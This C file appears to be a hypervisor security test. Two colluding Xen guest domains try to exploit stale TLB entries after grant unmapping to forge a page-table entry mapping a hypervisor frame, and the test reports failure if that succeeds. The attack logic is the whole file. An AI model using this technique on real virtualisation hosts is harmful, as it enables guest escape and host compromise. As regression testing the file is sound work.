/* SPDX-License-Identifier: MIT */
/*
 * grant_stale.c - two domains that plot together: the lender grants a page many times over, and
 * uses it as a page table now and then; the borrower maps it, takes the mapping away without a
 * flush, and goes on writing by what its TLB may have kept. If the table changes, both have the
 * machine. peer=D is the other one; both must have been given nothing to do before, so that the
 * references agree.
 */
#include "attack.h"
#include "grants.h"

#define NR_LENT 16U
#define FIRST_LENT GNTTAB_NR_RESERVED_ENTRIES
#define FORGED 0x100063UL /* an entry that maps the hypervisor's frame */
#define PATIENCE (20 * SEC)

static domid_t peer(void)
{
    return (domid_t)arg_number("peer", 1);
}

/* While the page is an L1, not one bit of it may change. */
static const char *watch(const volatile uint64_t *table)
{
    uint64_t before = table[1], until = clock_now() + 500 * US;

    while (clock_now() < until) {
        if (table[1] != before) {
            return "a page table was written by another domain";
        }
    }
    return before & PTE_P ? "an L1 was taken that maps the hypervisor" : NULL;
}

const char *attack_lender(void)
{
    unsigned long tables = 0, seen = 0, rounds = arg_number("rounds", 200);
    uint64_t deadline = clock_now() + PATIENCE, last = 0;
    const char *why = NULL;

    if (grant_start() < 0) {
        return "no grant table";
    }
    map_page(6, PTE_RO);
    for (grant_ref_t i = 0; i < NR_LENT; i++) {
        grant_page(peer(), virt_to_mfn(pages[6]), 0);
    }
    while (tables < rounds && !why && clock_now() < deadline) {
        if (pin(1, pages[6]) == 0) {
            tables++;
            why = watch(pages[6]);
            unpin(pages[6]);
        }
        seen += ((volatile uint64_t *)pages[6])[2] != last;
        last = ((volatile uint64_t *)pages[6])[2];
        clock_sleep(50 * US);
    }
    printf("attack: %lu times a table, written %lu times in between\n", tables, seen);
    return why ? why : tables && seen ? NULL : "the other one did not take part";
}

static bool skip_store(struct frame *frame)
{
    frame->rip += 4; /* mov %rcx, 8(%rax) */
    return true;
}

static void store(void *va, uint64_t value)
{
    asm volatile("mov %0, 8(%1)" ::"c"(value), "a"(va) : "memory");
}

/* Many times what is no entry, and once what is one: the lender's page is mostly fit for a table.
 */
static void store_stale(char *va, unsigned long turn)
{
    uint64_t until = clock_now() + 500 * US;

    while (clock_now() < until) {
        store(va, FORGED);
        store(va, 0);
        for (unsigned int i = 0; i < 8; i++) {
            store(va + 8, 2 * turn); /* no entry that is present */
        }
    }
}

const char *attack_borrower(void)
{
    uint64_t deadline = clock_now() + PATIENCE;
    unsigned long mapped = 0;
    grant_handle_t handle;
    char *va = (char *)ga_slots[0];

    trap_handle(14, skip_store);
    while (grant_map(peer(), FIRST_LENT, va, 0, &handle) && clock_now() < deadline) {
        clock_sleep(MS);
    }
    grant_unmap(va, handle);
    for (grant_ref_t i = 0; i < NR_LENT; i++) {
        /* The handle is lost each time, and each reference bears only so many. */
        while (mapped < 100 * (i + 1UL) && clock_now() < deadline) {
            if (grant_map(peer(), FIRST_LENT + i, va, 0, &handle)) {
                clock_sleep(20 * US); /* it is a table now */
                continue;
            }
            mapped++;
            store(va, 0);
            update_va_mapping(va, 0, UVMF_NONE);
            store(va, 0);
            store_stale(va, mapped);
        }
    }
    catch_init();
    printf("attack: mapped %lu times, and never unmapped\n", mapped);
    return mapped ? NULL : "nothing was granted";
}
